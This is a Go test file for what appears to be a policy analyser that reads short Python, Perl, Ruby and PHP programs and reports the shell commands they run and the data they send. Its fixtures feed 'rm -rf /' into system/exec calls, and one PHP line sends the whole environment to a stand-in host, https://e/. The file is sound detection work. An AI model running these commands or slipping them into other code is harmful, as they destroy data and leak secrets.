package script

import (
	"slices"
	"testing"

	"github.com/sluice-project/sluice/policy/program/library"
)

func TestProgramsThatAreGivenSomething(t *testing.T) {
	given := Given{Args: []string{"-c", "rm -rf /", "x"}, Env: func(name string) (string, bool) { return "id", name == "CMD" }}
	for _, c := range []struct {
		language library.Language
		program  string
		does     []string
	}{
		{library.Python, `import sys, os; os.system(sys.argv[1])`, []string{"shell rm -rf /"}},
		{library.Python, `from sys import argv; import os; os.system(argv[1])`, []string{"shell rm -rf /"}},
		{library.Python, `import sys, subprocess; subprocess.run(sys.argv[1:])`, []string{"argv rm -rf /|x"}},
		{library.Python, `import os; os.system(os.environ["CMD"])`, []string{"shell id"}},
		{library.Python, `import os; os.system(os.environ["OTHER"])`, []string{"shell ${OTHER} ?"}},
		{library.Perl, `system($ARGV[0])`, []string{"shell rm -rf /"}},
		{library.Perl, `exec shift`, []string{"shell rm -rf /"}},
		{library.Perl, `my $c = shift @ARGV; system $c`, []string{"shell rm -rf /"}},
		{library.Perl, `system $ENV{CMD}`, []string{"shell id"}},
		{library.Ruby, `system(ARGV[0])`, []string{"shell rm -rf /"}},
		{library.Ruby, `system ENV["CMD"]`, []string{"shell id"}},
		{library.PHP, `system($argv[1]);`, []string{"shell rm -rf /"}},
		{library.PHP, `system(getenv("CMD"));`, []string{"shell id"}},
	} {
		if got := said(ReadWith(c.language, c.program, given)); !slices.Equal(got, c.does) {
			t.Errorf("%s %s\n   does %q\n   want %q", c.language, c.program, got, c.does)
		}
	}
}

func TestWhatIsPutIntoAnAddressIsSent(t *testing.T) {
	got := said(Read(library.PHP, `file_get_contents("https://e/?".http_build_query(getenv()));`))
	if want := []string{"env environment", "send https://e/?${x} from environment ?"}; !slices.Equal(got, want) {
		t.Errorf("does %q, want %q", got, want)
	}
}
